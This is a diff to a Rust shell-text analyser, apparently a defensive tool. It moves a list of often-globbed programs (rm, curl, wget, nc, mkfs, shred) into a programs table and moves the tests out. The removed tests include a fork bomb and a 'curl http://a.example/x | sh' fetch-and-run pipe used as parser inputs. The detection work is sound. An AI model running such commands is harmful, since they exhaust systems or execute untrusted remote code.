@@ -7,6 +7,7 @@
 mod expand;
 mod print;
 mod privileges;
+pub(crate) mod programs;
 mod run;
 pub(crate) mod syntax;
 pub(crate) mod wrappers;
@@ -15,9 +16,12 @@ use std::borrow::Cow;
 use std::cell::Cell;
 use std::ops::Range;
 
+use crate::text::expression::ExpressionError;
 use crate::text::glob;
 
 pub(crate) use privileges::Invoker;
+pub use programs::ProgramsError;
+use programs::Role;
 pub(crate) use syntax::Direction;
 
 /// A word after expansion.
@@ -117,9 +121,9 @@ impl Call {
     }
 
     /// The value of an option: the next argument, or what follows `=` or a short flag.
-    pub(crate) fn values<'a>(&'a self, names: &'a [&'a str]) -> impl Iterator<Item = (&'a Word, &'a str)> {
+    pub(crate) fn values<'a, S: AsRef<str>>(&'a self, names: &'a [S]) -> impl Iterator<Item = (&'a Word, &'a str)> {
         self.args.iter().enumerate().filter_map(move |(index, word)| {
-            names.iter().find_map(|name| {
+            names.iter().map(AsRef::as_ref).find_map(|name| {
                 let rest = word.text.strip_prefix(name)?;
                 if rest.is_empty() {
                     return self.args.get(index + 1).map(|next| (next, next.text.as_str()));
@@ -263,6 +267,23 @@ pub(crate) fn read(text: &str, found_file: FoundFile) -> Reading {
     run::read(text, found_file)
 }
 
+/// Why shell texts cannot be read.
+#[derive(Clone, Debug, thiserror::Error)]
+pub enum ShellError {
+    /// The table of programs cannot be used.
+    #[error(transparent)]
+    Programs(#[from] ProgramsError),
+    /// An expression does not compile.
+    #[error(transparent)]
+    Expression(#[from] ExpressionError),
+}
+
+/// Reads the table of programs and compiles the expressions of this module.
+pub(crate) fn check() -> Result<(), ShellError> {
+    programs::check()?;
+    Ok(wrappers::check_expressions()?)
+}
+
 /// The bare name of a program.
 pub(crate) fn program_name(path: &str) -> String {
     let name = path.rsplit(['/', '\\']).next().unwrap_or(path).to_ascii_lowercase();
@@ -274,22 +295,13 @@ pub(crate) fn program_name(path: &str) -> String {
     globbed(path, &name).map_or(name, str::to_owned)
 }
 
-/// Programs that are called under patterns of file names so that their names do not show.
-const OFTEN_GLOBBED: &[&str] = &[
-    "rm", "sh", "bash", "dash", "zsh", "cat", "curl", "wget", "nc", "dd", "find", "chmod", "chown", "python",
-    "python3", "perl", "base64", "shred", "mkfs", "tee", "cp", "mv", "scp", "ssh",
-];
-
 /// The program that a shell would find for a name with `?`, `*` or `[…]` in it, somewhere under the root.
 fn globbed(path: &str, name: &str) -> Option<&'static str> {
     let is_pattern = name.contains(['?', '*', '[']) && name.contains(|c: char| c.is_ascii_alphanumeric());
     if !is_pattern || (path.contains('/') && !path.starts_with('/')) {
         return None;
     }
-    OFTEN_GLOBBED
-        .iter()
-        .copied()
-        .find(|program| glob::fits(name.as_bytes(), program.as_bytes()))
+    programs::of(Role::OftenGlobbed).find(|program| glob::fits(name.as_bytes(), program.as_bytes()))
 }
 
 /// Whether a call turns unreadable text into readable text.
@@ -328,50 +340,4 @@ pub(crate) fn is_decoder(call: &Call) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn what_a_reading_costs_is_bounded_by_the_length_of_the_text() {
-        const OF_ANY: usize = 512 * 1024;
-        const PER_BYTE: usize = 320;
-        let units = [
-            "f(){ f|f& };f;",
-            "{a,b}{c,d}",
-            "a=$a$a; ",
-            "$(echo ",
-            "cat <<E\n",
-            "a | ",
-            "for i in a b; do ",
-            "bash -c 'bash -c \"",
-            "sudo env xargs ",
-            "g(){ f;f;f; };f(){ h;h;h; };h(){ a;a;a; };g;",
-        ];
-        for unit in units {
-            for times in [1, 5, 50, 1_000] {
-                let text = unit.repeat(times);
-                let reading = read(&text, |_, _| None);
-                let most = OF_ANY + PER_BYTE * text.len();
-                assert!(reading.work <= most, "{unit:?} {times} times costs {}", reading.work);
-                for call in &reading.calls {
-                    reading.upstream(call);
-                }
-                assert!(
-                    reading.asked.get() <= reading.most_asked() + reading.calls.len(),
-                    "{unit:?}"
-                );
-            }
-        }
-    }
-
-    #[test]
-    fn a_pipe_of_very_many_programs_is_told() {
-        let text = format!("curl http://a.example/x {}| sh", "| cat ".repeat(390));
-        let reading = read(&text, |_, _| None);
-        for call in &reading.calls {
-            reading.upstream(call);
-        }
-        assert!(reading.is_cut());
-        assert!(!read("curl http://a.example/x | tee a | grep -v b | sort | sh", |_, _| None).is_cut());
-    }
-}
+mod tests;
